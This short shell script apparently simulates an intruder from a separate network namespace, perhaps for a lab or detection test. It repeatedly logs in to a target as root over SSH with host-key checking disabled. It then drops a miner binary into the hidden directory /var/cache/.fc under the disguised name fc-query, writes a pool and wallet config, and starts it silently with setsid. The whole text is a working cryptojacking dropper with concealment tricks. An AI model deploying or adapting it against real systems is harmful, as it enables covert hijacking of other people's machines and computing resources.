# Runs outside of the host, in its other network namespace: $HOST is its address, $HIS the folder with his key and the harmless miner.
options="-i $HIS/key -b 203.0.113.66 -oBatchMode=yes -oConnectTimeout=3 -oServerAliveInterval=2 -oServerAliveCountMax=2 -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oLogLevel=ERROR"
d=/var/cache/.fc
config='{"pools":[{"url":"'$POOL'","user":"'$WALLET'","pass":"ssh"}],"cpu":{"max-threads-hint":50}}'
drop="pgrep -f ^$d/fc-query >/dev/null || { mkdir -p $d && cat >$d/new && chmod 755 $d/new && mv $d/new $d/fc-query && echo '$config' >$d/config.json && (setsid $d/fc-query -o $POOL -u $WALLET -p ssh </dev/null >/dev/null 2>&1 &) }"
end=$(($(date +%s) + 3600))
while [ ! -e "$HIS/leave" ] && [ "$(date +%s)" -lt $end ]; do
  if timeout 10 ssh $options root@"$HOST" "$drop" <"$HIS/mimic"; then echo "$(date +%s) in"; else echo "$(date +%s) refused"; fi
  sleep 4
done
